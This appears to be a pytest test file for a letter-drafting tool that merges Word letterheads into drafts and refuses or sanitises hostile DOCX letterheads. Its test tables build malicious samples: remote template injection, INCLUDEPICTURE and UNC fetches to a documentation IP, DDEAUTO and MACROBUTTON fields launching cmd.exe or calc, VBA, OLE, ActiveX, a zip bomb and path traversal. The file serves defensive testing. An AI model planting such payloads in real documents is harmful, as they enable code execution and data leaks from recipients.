"""Word letterheads: the example letterhead around a draft, and hostile letterheads refused."""
from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import check_docx
from drafter.cli import main
from drafter.formats.docx.letterhead import read_letterhead

REPO = Path(__file__).resolve().parent.parent
EXAMPLE = REPO / "letterheads" / "cecc-example.docx"
EXAMPLE_FOOTER = zipfile.ZipFile(EXAMPLE).read("word/footer1.xml").decode()
STEM = "2023-10-23-erc-entity-list-raimondo-yellen-blinken"
W_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def run(*args):
    return CliRunner().invoke(main, ["-C", str(REPO), *map(str, args)], catch_exceptions=False)




@pytest.fixture(scope="module")
def drafted(tmp_path_factory):
    out = tmp_path_factory.mktemp("lh")
    res = run("draft", "erc-entity-list-letterhead", "-o", out, "--format", "docx", "--format", "txt")
    assert res.exit_code == 0, res.output
    return out / f"{STEM}.docx"


def test_script_rebuilds_the_committed_letterhead(tmp_path):
    out = tmp_path / "lh.docx"
    subprocess.run([sys.executable, str(REPO / "scripts" / "make_letterhead.py"), str(out)], check=True,
                   capture_output=True)
    assert out.read_bytes() == EXAMPLE.read_bytes()
    check_docx(EXAMPLE)


def test_letterhead_parts_in_the_draft(drafted):
    assert "17 parts" in check_docx(drafted)
    with zipfile.ZipFile(drafted) as z:
        names = set(z.namelist())
        assert {"word/header1.xml", "word/footer1.xml", "word/_rels/header1.xml.rels",
                "word/media/letterhead1.png"} <= names
        assert z.read("word/media/letterhead1.png").startswith(b"\x89PNG")
        doc = z.read("word/document.xml").decode()
        styles = z.read("word/styles.xml").decode()
        ctypes = z.read("[Content_Types].xml").decode()
    # The letterhead's page setup and header replace the text letterhead; the header is the first
    # page's only, and its "Page N" footer numbers the continuation pages.
    sect = doc[doc.index("<w:sectPr>"):]
    assert '<w:pgMar w:top="1800"' in doc and "<w:titlePg/>" in sect
    assert re.findall(r'<w:(\w+)Reference w:type="(\w+)"', sect) == [("header", "first"), ("footer", "default")]
    assert "Letterhead" not in doc
    # Its styles, plus every drafter style it lacks.
    assert 'w:ascii="Georgia"' in styles
    for sid in ("InsideAddress", "Salutation", "Signature", "FootnoteText", "FootnoteReference",
                "CommentReference", "BodyText", "Closing"):
        assert f'w:styleId="{sid}"' in styles
    assert styles.count('w:styleId="Date"') == 1 and "w:before=\"240\" w:after=\"480\"" in styles
    assert f'PartName="/word/header1.xml" ContentType="{W_CT}.header+xml"' in ctypes
    assert 'Extension="png"' in ctypes


def test_text_forms_carry_the_letterhead_words(drafted):
    txt = drafted.with_suffix(".txt").read_text()
    assert txt.startswith("Congressional-Executive Commission on China\n\nOctober 23, 2023\n")


def pdf_pages(docx: Path, out: Path) -> list[str]:
    from drafter.formats.pdf import convert_files
    pdf = convert_files([docx], out)[0]
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                          check=True).stdout
    return [p for p in text.split("\f") if p.strip()]


@pytest.mark.slow
def test_letterhead_on_page_one_only_and_page_numbers_from_page_two(soffice, drafted, tmp_path):
    pages = pdf_pages(drafted, tmp_path)
    assert len(pages) >= 2
    first = " ".join(pages[0].split())
    assert first.upper().startswith("CONGRESSIONAL-EXECUTIVE COMMISSION ON CHINA")
    assert "October 23, 2023" in first and "Dear Secretaries Raimondo, Yellen, and Blinken:" in first
    assert "Page" not in first
    for i, page in enumerate(pages[1:], start=2):
        lines = [line.strip() for line in page.splitlines() if line.strip()]
        assert "COMMISSION ON CHINA" not in lines[0].upper(), f"page {i} repeats the letterhead"
        assert lines[-1] == f"Page {i}", f"page {i}"
        assert "COMMISSION ON CHINA" not in " ".join(lines[:2]).upper()


def on_two_headers(campaign: Path, letter: str, first_header: str, first_footer: str | None = None) -> None:
    """Put a letter of the campaign on a letterhead made in Word (python-docx) with a first-page
    header (and footer) and a different continuation header."""
    docx = pytest.importorskip("docx")
    document = docx.Document()
    section = document.sections[0]
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = first_header
    if first_footer:
        section.first_page_footer.paragraphs[0].text = first_footer
    section.header.paragraphs[0].text = "Tibet Action Example (continued)"
    document.save(str(campaign / "two-headers.docx"))
    spec = campaign / "letters" / f"{letter}.yaml"
    spec.write_text(spec.read_text().replace('letterhead: ["Congressional-Executive Commission on China"]',
                                             "letterhead: two-headers.docx"))


@pytest.mark.slow
def test_first_page_header_and_footer_of_a_letterhead_are_used_on_page_one_only(soffice, campaign, tmp_path):
    """A letterhead with its own first-page header and footer (an address line) and a continuation
    header: page 1 takes the first-page ones; later pages are plain, with drafter's page numbers."""
    on_two_headers(campaign, "erc-entity-list", "Tibet Action Example", "1 Main Street, Springfield")
    out = tmp_path / "out"
    res = CliRunner().invoke(main, ["-C", str(campaign), "draft", "erc-entity-list", "-o", str(out)])
    assert res.exit_code == 0, res.output
    [path] = out.glob("*.docx")
    check_docx(path)
    pages = pdf_pages(path, tmp_path)
    assert len(pages) >= 2
    first = [line.strip() for line in pages[0].splitlines() if line.strip()]
    assert first[0] == "Tibet Action Example" and first[-1] == "1 Main Street, Springfield"
    for i, page in enumerate(pages[1:], start=2):
        lines = [line.strip() for line in page.splitlines() if line.strip()]
        assert "Tibet Action" not in page and "Main Street" not in page, f"page {i}"
        assert lines[-1] == str(i), f"page {i}"


def test_no_revision_ids_or_metadata_copied(tmp_path):
    # A letterhead saved by Word: rsids everywhere, a creator, custom XML, comments-by-people.
    evil = mutate(tmp_path, {
        "word/header1.xml": lambda x: x.replace(b"<w:p>", b'<w:p w:rsidR="00AB12CD" w:rsidRDefault="00AB12CD">'),
        "word/styles.xml": lambda x: x.replace(b'<w:qFormat/></w:style>',
                                               b'<w:qFormat/><w:rsid w:val="00AB12CD"/></w:style>', 1),
        "docProps/core.xml": b"<cp:coreProperties><dc:creator>Jane Activist</dc:creator></cp:coreProperties>",
        "customXml/item1.xml": b"<secret>C:\\Users\\jane</secret>",
        "word/people.xml": b"<w15:people/>",
    })
    lh = read_letterhead(evil)
    blob = b"".join([lh.styles, *lh.parts.values()])
    assert b"rsid" not in blob and b"00AB12CD" not in blob and b"Jane" not in blob and b"secret" not in blob
    assert sorted(lh.parts) == ["word/_rels/header1.xml.rels", "word/footer1.xml", "word/header1.xml",
                                "word/media/letterhead1.png"]


# Hostile letterheads ------------------------------------------------------------------------

def mutate(tmp: Path, changes: dict, name: str = "evil.docx", base: bytes | None = None) -> Path:
    """A copy of the example letterhead with parts replaced (bytes or a function of the old bytes),
    added, or removed (None)."""
    src = zipfile.ZipFile(io.BytesIO(base or EXAMPLE.read_bytes()))
    parts = {n: src.read(n) for n in src.namelist()}
    for part, change in changes.items():
        if change is None:
            parts.pop(part, None)
        elif callable(change):
            parts[part] = change(parts[part])
        else:
            parts[part] = change
    path = tmp / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for part, data in parts.items():
            z.writestr(part, data)
    return path


def add_rel(rels_xml: bytes, rid: str, typ: str, target: str, external: bool = False) -> bytes:
    mode = b' TargetMode="External"' if external else b""
    rel = f'<Relationship Id="{rid}" Type="{REL}/{typ}" Target="{target}"'.encode() + mode + b"/>"
    return rels_xml.replace(b"</Relationships>", rel + b"</Relationships>")


def add_ct(ct_xml: bytes, part: str, ctype: str) -> bytes:
    return ct_xml.replace(b"</Types>", f'<Override PartName="/{part}" ContentType="{ctype}"/></Types>'.encode())


def in_body(xml: str):
    return lambda doc: doc.replace(b"<w:body><w:p/>", b"<w:body>" + xml.encode())


def field(*pieces: str, result: str = "x") -> str:
    """The runs of a complex field, its instruction split over one instrText run per piece; a piece
    that starts with "<" is put in as it is (a nested field)."""
    code = "".join(p if p.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>'
                   for p in pieces)
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="separate"/>'
            f'</w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def in_header(xml: str):
    return lambda x: x.replace(b"</w:p></w:hdr>", xml.encode() + b"</w:p></w:hdr>")


def in_footer(xml: str):
    return lambda x: x.replace(b"</w:p></w:ftr>", xml.encode() + b"</w:p></w:ftr>")


DOC_RELS = "word/_rels/document.xml.rels"
SPY = "http://198.51.100.7/x.png"
UNC = r"\\\\198.51.100.7\\share\\x.docx"      # as a field string writes \\198.51.100.7\share\x.docx
HOSTILE = {
    "not-a-zip": ({}, "not a Word file (not a zip archive)"),
    "zip-bomb": ({"word/media/pad.bin": b"\0" * (8 * 2**20)}, "a zip bomb"),
    "macro-content-type": ({"[Content_Types].xml": lambda x: x.replace(
        b"document.main+xml", b"document.macroEnabled.main+xml")}, "it contains macros"),
    "vba-project": ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA", DOC_RELS: lambda x: add_rel(
        x, "rId9", "vbaProject", "vbaProject.bin")}, "VBA macro project"),
    "attached-template": ({"word/settings.xml": b'<w:settings xmlns:w="http://schemas.openxmlformats.org/'
                                                b'wordprocessingml/2006/main"/>',
                           "word/_rels/settings.xml.rels": add_rel(
                               b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                               b"</Relationships>", "rId1", "attachedTemplate",
                               "http://198.51.100.7/t.dotm", external=True)},
                          "an attached template (remote template injection)"),
    "remote-image": ({"word/_rels/header1.xml.rels": lambda x: x.replace(
        b'Target="media/logo.png"/>', b'Target="http://198.51.100.7/logo.png" TargetMode="External"/>')},
        "a relationship points outside the file"),
    "ole-object": ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0", DOC_RELS: lambda x: add_rel(
        x, "rId9", "oleObject", "embeddings/oleObject1.bin")}, "embedded files"),
    "ole-relationship": ({DOC_RELS: lambda x: add_rel(x, "rId9", "oleObject", "media/logo.png")},
                         "an embedded OLE object"),
    "activex": ({"word/activeX/activeX1.xml": b"<ax:ocx/>", DOC_RELS: lambda x: add_rel(
        x, "rId9", "control", "activeX/activeX1.xml")}, "an ActiveX control"),
    "activex-element": ({"word/document.xml": in_body('<w:p><w:r><w:control r:id="rId9"/></w:r></w:p>')},
                        "an ActiveX control"),
    "alt-chunk": ({"word/afchunk.mht": b"MIME-Version: 1.0", "word/document.xml": in_body(
        '<w:altChunk r:id="rId9"/>'), DOC_RELS: lambda x: add_rel(x, "rId9", "aFChunk", "afchunk.mht")},
                  "alternative-format chunk"),
    "subdocument": ({DOC_RELS: lambda x: add_rel(x, "rId9", "subDocument", "sub.docx")}, "a subdocument"),
    "frame": ({"word/_rels/webSettings.xml.rels": add_rel(
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        "rId1", "frame", "other.docx")}, "a frame"),
    "include-picture-field": ({"word/header1.xml": lambda x: x.replace(
        b"<w:tab/>", b'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
                     b'INCLUDEPICTURE "http://198.51.100.7/x.png" \\d </w:instrText></w:r><w:r>'
                     b'<w:fldChar w:fldCharType="end"/><w:tab/>')}, "INCLUDEPICTURE field"),
    "dde-field": ({"word/footer1.xml": lambda x: x.replace(b'w:instr=" PAGE "', b'w:instr=" DDEAUTO c:\\\\x "')},
                  "DDEAUTO field"),
    # Field names in any case, instructions split over runs, nested fields, remote addresses.
    "field-lower-case": ({"word/footer1.xml": lambda x: x.replace(
        b'w:instr=" PAGE "', f'w:instr=" includepicture &quot;{SPY}&quot; \\d "'.encode())},
        "INCLUDEPICTURE field"),
    "field-split-over-runs": ({"word/header1.xml": in_header(field(" Include", f'Picture "{SPY}" \\d '))},
                              "INCLUDEPICTURE field"),
    "field-split-mid-name": ({"word/header1.xml": in_header(field(" INCLU", "DE", "TEXT ", f'"{UNC}"'))},
                             "INCLUDETEXT field"),
    "field-in-body": ({"word/document.xml": in_body(
        '<w:p><w:fldSimple w:instr=" Link Excel.Sheet.8 &quot;C:\\\\q.xls&quot; Sheet1 \\a "/></w:p>')},
        "LINK field"),
    "field-ddeauto-mixed-case": ({"word/document.xml": in_body(
        "<w:p>" + field(" DdeAuto ", 'c:\\\\Windows\\\\system32\\\\cmd.exe "/c calc"') + "</w:p>")},
        "DDEAUTO field"),
    "field-nested-fetch": ({"word/header1.xml": in_header(field(' IF 1 = 1 "', field(f' includePicture "{SPY}" '),
                                                                 '" "" '))}, "INCLUDEPICTURE field"),
    "field-name-from-nested-field": ({"word/header1.xml": in_header(field(
        " ", field(' QUOTE "INCLUDEPICTURE" '), f' "{SPY}" '))}, "takes its name from another field"),
    "field-unc-path": ({"word/footer1.xml": in_footer(field(f' QUOTE "{UNC}" '))}, "names a remote address"),
    "field-url": ({"word/footer1.xml": in_footer(field(" SYMBOL 83 ", '\\f "https://198.51.100.7/f" '))},
                  "names a remote address"),
    "dtd": ({"word/styles.xml": lambda x: x.replace(
        b"<w:styles ", b'<!DOCTYPE lol [<!ENTITY a "aaaa">]><w:styles ', 1)}, "declares a DTD"),
    "fake-image": ({"word/media/logo.png": b"MZ\x90\x00 not an image"}, "is not a PNG, JPEG or GIF image"),
    "path-traversal": ({"../../evil.txt": b"x"}, "unsafe or duplicate name"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE) + ["docm-suffix"])
def test_hostile_letterhead_refused(case, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    if case == "not-a-zip":
        evil = folder / "evil.docx"
        evil.write_text("<html>this is not a Word file</html>")
        reason = HOSTILE[case][1]
    elif case == "docm-suffix":
        evil, reason = mutate(folder, {}, name="evil.docm"), "a macro-enabled Word file (.docm/.dotm)"
    else:
        changes, reason = HOSTILE[case]
        evil = mutate(folder, changes)
    res, out = draft_with(evil, tmp_path)
    assert res.exit_code == 1, res.output
    # The error names the letterhead or the spec line that names it, then the reason.
    assert "letterhead refused: " in res.output and reason in res.output, res.output
    assert "Traceback" not in res.output
    assert not out.exists()          # nothing written, not even the folder


def draft_with(letterhead: Path, tmp_path: Path):
    """`drafter draft` of the example letter on `letterhead`: the CLI result and the output folder."""
    spec = tmp_path / "spec.yaml"
    spec.write_text((REPO / "letters" / "erc-entity-list.yaml").read_text().replace(
        'letterhead: ["Congressional-Executive Commission on China"]', f"letterhead: {letterhead}"))
    out = tmp_path / "out"
    return run("draft", spec, "-o", out, "--format", "docx", "--format", "txt"), out


def test_the_example_is_accepted_as_is(tmp_path):
    lh = read_letterhead(mutate(tmp_path, {}))
    assert lh.header_lines == ("Congressional-Executive Commission on China",)
    assert lh.page["pgMar"]["top"] == "1800" and not lh.title_page
    # Its header becomes the first page's; its footer shows the page number, so it numbers the rest.
    assert [r[:2] for r in lh.refs] == [("header", "first"), ("footer", "default")]


def test_a_footer_without_page_number_stays_on_page_one(tmp_path):
    """An address line in the footer belongs to the letterhead: page 1 only. Continuation pages
    get drafter's page number; a letterhead without a section at all gets it too."""
    footer = EXAMPLE_FOOTER.replace('<w:r><w:t xml:space="preserve">Page </w:t></w:r><w:fldSimple w:instr=" PAGE ">'
                                    '<w:r><w:t>1</w:t></w:r></w:fldSimple>', "<w:r><w:t>1 Main Street</w:t></w:r>")
    assert footer != EXAMPLE_FOOTER
    lh = read_letterhead(mutate(tmp_path, {"word/footer1.xml": footer.encode()}))
    assert [r[:2] for r in lh.refs] == [("header", "first"), ("footer", "first"), ("footer", "default")]
    assert b"1 Main Street" in lh.parts[lh.refs[1][2]] and b" PAGE " in lh.parts[lh.refs[2][2]]
    bare = mutate(tmp_path, {"word/document.xml": lambda x: re.sub(rb"<w:sectPr>.*</w:sectPr>", b"", x)},
                  name="bare.docx")
    lh = read_letterhead(bare)
    assert [r[:2] for r in lh.refs] == [("footer", "default")]
    assert "<w:titlePg/>" in lh.sect_xml({lh.refs[0][2]: "rId9"})


def test_missing_letterhead_file(tmp_path):
    spec = tmp_path / "spec.yaml"
    spec.write_text((REPO / "letters" / "erc-entity-list-letterhead.yaml").read_text().replace(
        "letterheads/cecc-example.docx", "letterheads/nope.docx"))
    res = run("draft", spec, "-o", tmp_path / "out")
    assert res.exit_code == 1 and re.search(r"letterhead file .*not found", res.output), res.output
    assert re.search(r"nope\.docx", res.output)


def test_text_forms_take_the_first_page_header(campaign, tmp_path):
    on_two_headers(campaign, "company-ceo", "Tibet Action Example, 1 Main Street")
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["-C", str(campaign), "draft", "company-ceo", "--format", "txt",
                                       "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = next(out.glob("*.txt")).read_text()
    assert text.startswith("Tibet Action Example, 1 Main Street")
    assert "(continued)" not in text


# What a draft takes from an accepted letterhead -------------------------------------------------

def draft_parts(letterhead: Path, tmp_path: Path) -> dict[str, str]:
    """Draft the example letter on `letterhead`; the draft's XML parts, checked by docx_check."""
    res, out = draft_with(letterhead, tmp_path)
    assert res.exit_code == 0, res.output
    [path] = out.glob("*.docx")
    check_docx(path)
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))}


A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
LINKS = {
    # An external hyperlink relationship around text, the same on the logo (click), and a HYPERLINK field.
    "header": {"word/_rels/header1.xml.rels": lambda x: add_rel(x, "rId7", "hyperlink", "http://198.51.100.7/t",
                                                                external=True),
               "word/header1.xml": lambda x: in_header(
                   '<w:hyperlink r:id="rId7"><w:r><w:t>www.tibet-action.example</w:t></w:r></w:hyperlink>'
                   + field(' HYPERLINK "http://198.51.100.7/donate" ', result="Donate"))(x).replace(
                   b'descr="Commission seal"/>',
                   f'descr="Commission seal"><a:hlinkClick xmlns:a="{A_NS}" r:id="rId7"/></wp:docPr>'.encode())},
    # The footer has no relationships yet; a HYPERLINK field to a UNC path goes too.
    "footer": {"word/_rels/footer1.xml.rels": add_rel(
                   b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   b"</Relationships>", "rId1", "hyperlink", "mailto:spy@198.51.100.7", external=True),
               "word/footer1.xml": in_footer(
                   '<w:hyperlink r:id="rId1"><w:r><w:t>www.tibet-action.example</w:t></w:r></w:hyperlink>'
                   f'<w:fldSimple w:instr=" hyperlink &quot;{UNC}&quot; "><w:r><w:t>Donate</w:t></w:r>'
                   "</w:fldSimple>")},
}


@pytest.mark.parametrize("where", sorted(LINKS))
def test_links_in_header_and_footer_are_dropped_keeping_their_text(where, tmp_path):
    parts = draft_parts(mutate(tmp_path, LINKS[where]), tmp_path)
    part = parts[f"word/{where}1.xml"]
    assert "www.tibet-action.example" in part and "Donate" in part      # the words stay
    assert "hyperlink" not in part.lower() and "hlinkClick" not in part  # the links go
    assert not [n for n, text in parts.items() if "198.51.100.7" in text]
    assert not [n for n in parts if n.startswith(("word/_rels/header", "word/_rels/footer"))
                and "External" in parts[n]]
    assert 'w:instr=" PAGE "' in parts["word/footer1.xml"]           # other fields stay
    if where == "header":
        assert parts["word/_rels/header1.xml.rels"].count("<Relationship ") == 1   # the logo


PNG = zipfile.ZipFile(EXAMPLE).read("word/media/logo.png")
WIN_PATH = r"C:\Users\tenzin.dolkar\Desktop\seal.png"
NIX_PATH = "/home/tenzin/Pictures/logo.png"


def word_letterhead(tmp_path: Path, patch=lambda part, xml: xml) -> Path:
    """A letterhead made by python-docx (theme fonts in its styles, as Word writes them), with a logo
    in the header and one in the footer; `patch(part name, xml)` edits the header and footer XML."""
    docx = pytest.importorskip("docx")
    (tmp_path / "seal.png").write_bytes(PNG)
    document = docx.Document()
    section = document.sections[0]
    for story, words in ((section.header, "Tibet Action Example"), (section.footer, "1 Main Street")):
        story.paragraphs[0].add_run().add_picture(str(tmp_path / "seal.png"), width=docx.shared.Inches(0.5))
        story.paragraphs[0].add_run(words)
    built = tmp_path / "built.docx"
    document.save(str(built))
    return mutate(tmp_path, {name: (lambda name: lambda x: patch(name, x.decode()).encode())(name)
                             for name in zipfile.ZipFile(built).namelist()
                             if re.fullmatch(r"word/(header|footer)\d*\.xml", name)},
                  name="word-letterhead.docx", base=built.read_bytes())


def test_image_names_and_path_like_alt_text_are_not_copied(tmp_path):
    def paths(part, xml):
        if "header" in part:      # Word's names and alt text, as a user's computer left them
            xml = re.sub(r'(<wp:docPr id="\d+" )name="[^"]*"(?: descr="[^"]*")?',
                         lambda m: f'{m[1]}name="{WIN_PATH}" descr="{WIN_PATH}" title="{NIX_PATH}"', xml)
            return re.sub(r'<pic:cNvPr ([^>]*?)name="[^"]*"',
                          lambda m: f'<pic:cNvPr {m[1]}name="{NIX_PATH}" descr="{NIX_PATH}"', xml)
        return re.sub(r'(<wp:docPr id="\d+" name="[^"]*")', r'\1 descr="Tibet Action seal"', xml)
    evil = word_letterhead(tmp_path, paths)
    with zipfile.ZipFile(evil) as z:       # the test file does carry the paths
        header = next(z.read(n).decode() for n in z.namelist() if n.startswith("word/header"))
        assert header.count("tenzin") == 5 and 'descr="Tibet Action seal"' not in header
    parts = draft_parts(evil, tmp_path)
    assert not [n for n, text in parts.items() if "tenzin" in text.lower() or "Desktop" in text]
    header, footer = (next(t for n, t in parts.items() if re.fullmatch(rf"word/{k}\d\.xml", n))
                      for k in ("header", "footer"))
    assert re.search(r'<wp:docPr id="\d+" name="Picture 1" descr="" title=""/>', header), header
    assert 'name="Picture 1" descr=""' in header.split("<pic:cNvPr ")[1]
    assert 'descr="Tibet Action seal"' in footer        # alt text that is no path stays
    assert "seal.png" not in header + footer            # python-docx's file name is gone too


def test_theme_fonts_keep_tibetan_and_chinese_font_slots(tmp_path):
    from lxml import etree
    evil = word_letterhead(tmp_path)
    with zipfile.ZipFile(evil) as z:
        assert 'w:eastAsiaTheme="minorEastAsia"' in z.read("word/styles.xml").decode()
    styles = draft_parts(evil, tmp_path)["word/styles.xml"]
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    fonts = etree.fromstring(styles.encode()).find(f"{w}docDefaults/{w}rPrDefault/{w}rPr/{w}rFonts")
    assert fonts.get(f"{w}eastAsia") == "SimSun" and fonts.get(f"{w}cs") == "Microsoft Himalaya"
    assert fonts.get(f"{w}asciiTheme") == "minorHAnsi"             # the letterhead's Latin font stays
    assert "eastAsiaTheme" not in styles and "cstheme" not in styles


@pytest.mark.parametrize("defaults, expect", [
    ("", {"eastAsia": "SimSun", "cs": "Microsoft Himalaya"}),                       # no docDefaults
    ('<w:docDefaults><w:rPrDefault><w:rPr><w:sz w:val="22"/></w:rPr></w:rPrDefault></w:docDefaults>',
     {"eastAsia": "SimSun", "cs": "Microsoft Himalaya"}),                            # no rFonts
    ('<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Georgia" w:eastAsia="MS Mincho" '
     'w:cstheme="minorBidi"/></w:rPr></w:rPrDefault></w:docDefaults>',
     {"ascii": "Georgia", "eastAsia": "MS Mincho", "cs": "Microsoft Himalaya"}),     # its own East Asian font
])
def test_merged_styles_name_east_asian_and_complex_script_fonts(defaults, expect):
    from lxml import etree
    from drafter.formats.docx.letterhead import merge_styles
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    styles = (f'<w:styles xmlns:w="{w[1:-1]}">{defaults}<w:style w:type="paragraph" w:default="1" '
              'w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>').encode()
    root = etree.fromstring(merge_styles(styles))
    assert etree.QName(root[0]).localname == "docDefaults"       # first, as the schema orders it
    fonts = root.find(f"{w}docDefaults/{w}rPrDefault/{w}rPr/{w}rFonts")
    assert {etree.QName(k).localname: v for k, v in fonts.attrib.items()} == expect
    assert root.find(f"{w}docDefaults/{w}rPrDefault/{w}rPr")[0] is fonts


# Fields and media a header or footer may carry -----------------------------------------------

VIDEO = ('<a:extLst xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:ext '
         'uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/'
         'office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://198.51.100.7/v'
         '&quot;&gt;&lt;/iframe&gt;" h="315" w="560"/></a:ext></a:extLst>')
VML = ('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" style="width:20pt;height:20pt">'
       '<v:imagedata xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId1" '
       f'o:href="{SPY}" src="{SPY}" o:althref="{UNC}" o:title=""/></v:shape></w:pict></w:r>')
ACTIVE_FIELDS = (field(" FILENAME ", r"\p ", result="letterhead.docx")
                 + '<w:fldSimple w:instr=" username "><w:r><w:t>Tenzin</w:t></w:r></w:fldSimple>'
                 + field(' FILLIN "Your name?" ', result="Signed")
                 + '<w:fldSimple w:instr=" MACROBUTTON Shell.Run calc.exe "/>'
                 + field(' PRINT "%!PS-Adobe erasepage showpage" ', result="")
                 + field(' DATE \\@ "MMMM d, yyyy" ', result="March 1, 2026"))


def test_only_layout_fields_stay_and_online_video_and_vml_sources_go(tmp_path):
    """FILENAME, USERNAME, FILLIN, MACROBUTTON and PRINT become the text they showed; DATE and PAGE
    stay fields; an online video on the logo and the file names of a VML picture are not copied."""
    evil = mutate(tmp_path, {
        "word/header1.xml": lambda x: in_header(ACTIVE_FIELDS + VML)(x).replace(
            b'<pic:cNvPr id="0" name="logo.png"/>', f'<pic:cNvPr id="0" name="logo.png">{VIDEO}</pic:cNvPr>'.encode()),
        "word/footer1.xml": in_footer(field(" USER", "NAME ", result="Tenzin")),
    })
    parts = draft_parts(evil, tmp_path)
    header, footer = parts["word/header1.xml"], parts["word/footer1.xml"]
    for word in ("FILENAME", "USERNAME", "FILLIN", "MACROBUTTON", "PRINT", "Shell.Run", "erasepage"):
        assert word not in (header + footer).upper().replace("DATE", ""), word
    for shown in ("letterhead.docx", "Tenzin", "Signed", "March 1, 2026"):
        assert shown in header, shown
    assert header.count("<w:instrText") == 1 and 'DATE \\@ "MMMM d, yyyy"' in header
    assert footer.count("Tenzin") == 1 and 'w:instr=" PAGE "' in footer and "fldChar" not in footer
    assert "webVideoPr" not in header and "iframe" not in header
    assert "<v:imagedata" in header and 'r:id="rId1"' in header.split("<v:imagedata")[1]
    assert not [n for n, text in parts.items() if "198.51.100.7" in text]


# --- the sender's address (issue 26) -------------------------------------------------------------

ADDRESS = ["1 Example Street NW", "Washington, DC 20000", "example.org"]   # a test address, no one's


def _warnings(campaign: Path, spec: str) -> list[str]:
    output = CliRunner().invoke(main, ["-C", str(campaign), "check"]).output
    return [ln for ln in output.splitlines() if f"/{spec}.yaml:" in ln and "return address" in ln]


def test_a_yaml_letterhead_carries_the_address_in_its_own_smaller_style(campaign, tmp_path):
    from conftest import docx_text
    spec = campaign / "letters" / "erc-entity-list.yaml"
    assert _warnings(campaign, "erc-entity-list") == [
        f"{spec}:7:1: warning: the letter has no return address: its letterhead gives none, nor do its signers "
        "(give the letterhead an address: `letterhead: {name: ..., address: [street, city]}`; or add `address:` "
        "to signer 'smith' in recipients.yaml)"]
    spec.write_text(spec.read_text().replace(
        'letterhead: ["Congressional-Executive Commission on China"]',
        'letterhead:\n  name: Congressional-Executive Commission on China\n  address: ["%s"]' % '", "'.join(ADDRESS)))
    assert _warnings(campaign, "erc-entity-list") == []
    res = CliRunner().invoke(main, ["-C", str(campaign), "draft", "erc-entity-list", "--clean", "--format", "docx",
                                    "--format", "txt", "-o", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    docx = tmp_path / "out" / f"{STEM}.docx"
    check_docx(docx)
    xml = zipfile.ZipFile(docx).read("word/document.xml").decode()
    styles = re.findall(r'<w:pStyle w:val="(Letterhead\w*)"/>', xml)
    assert styles == ["Letterhead", "LetterheadAddress", "LetterheadAddress", "LetterheadAddressRule"]
    style_xml = zipfile.ZipFile(docx).read("word/styles.xml").decode()
    assert '<w:name w:val="Letterhead Address"/>' in style_xml
    text = (tmp_path / "out" / f"{STEM}.txt").read_text()
    assert text.startswith("Congressional-Executive Commission on China\n" + "\n".join(ADDRESS) + "\n\n")
    assert "1 Example Street NW" in docx_text(docx)


def test_the_signers_address_is_the_return_address_without_one_in_the_letterhead(campaign, tmp_path):
    path = campaign / "recipients.yaml"
    path.write_text(path.read_text().replace(
        "  smith:\n    name: Christopher H. Smith\n",
        "  smith:\n    name: Christopher H. Smith\n    address: [\"%s\", \"%s\"]\n" % tuple(ADDRESS[:2]), 1))
    assert _warnings(campaign, "erc-entity-list") == []
    res = CliRunner().invoke(main, ["-C", str(campaign), "draft", "erc-entity-list", "--clean", "--format", "txt",
                                    "-o", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    assert (tmp_path / "out" / f"{STEM}.txt").read_text().startswith(
        "Congressional-Executive Commission on China\n1 Example Street NW\nWashington, DC 20000\n\n")


def test_a_word_letterhead_carries_the_address_in_the_letterhead_address_style(campaign, tmp_path):
    """scripts/make_letterhead.py --address: lines under the name in "Letterhead Address"; check
    reads them as the return address, and the text forms print them after the name."""
    (campaign / "letterheads").mkdir()
    out = campaign / "letterheads" / "cecc-example.docx"
    assert _warnings(campaign, "erc-entity-list-letterhead") == []     # the letterhead is missing: its own error
    subprocess.run([sys.executable, str(REPO / "scripts" / "make_letterhead.py"), str(out)], check=True,
                   capture_output=True)
    [warning] = _warnings(campaign, "erc-entity-list-letterhead")
    assert "in the Word style 'Letterhead Address'" in warning and "letterheads/cecc-example.docx" in warning
    subprocess.run([sys.executable, str(REPO / "scripts" / "make_letterhead.py"), str(out),
                    *[a for line in ADDRESS for a in ("--address", line)]], check=True, capture_output=True)
    assert read_letterhead(out).header_address == tuple(ADDRESS)
